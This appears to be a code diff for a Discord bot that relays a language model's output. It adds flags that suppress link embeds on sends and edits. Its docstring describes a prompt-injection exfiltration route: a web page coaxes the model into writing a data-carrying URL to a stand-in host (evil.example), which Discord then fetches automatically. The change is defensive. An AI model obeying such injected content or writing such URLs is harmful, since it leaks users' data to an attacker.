@@ -9,6 +9,11 @@ Mentions in the model's text never ping: messages go out with ``allowed_mentions
 disable ``@everyone``, role and user pings (only the author of the message being replied to
 is notified, as a reply normally does).
 
+No link is embedded: every message goes out with the ``SUPPRESS_EMBEDS`` flag
+(:data:`NO_EMBEDS`), set again on every edit. Discord would otherwise fetch each link at
+once, no click needed, so an address holding data (``https://evil.example/?d=...``) that a
+page talked the model into writing would carry it out (docs/security.md).
+
 Every part carries a ``nonce`` derived from the outbound message's idempotency key and the
 part's index, sent with ``enforce_nonce``: if a send that timed out had in fact arrived,
 Discord returns the existing message for the retry instead of posting it twice (Discord
@@ -32,6 +37,7 @@ MAX_FILES = 10  # attachments per Discord message
 ALLOWED_MENTIONS = discord.AllowedMentions(
     everyone=False, users=False, roles=False, replied_user=True
 )
+NO_EMBEDS = discord.MessageFlags(suppress_embeds=True)  # for edits: send takes suppress_embeds
 
 
 @dataclass(frozen=True, slots=True)
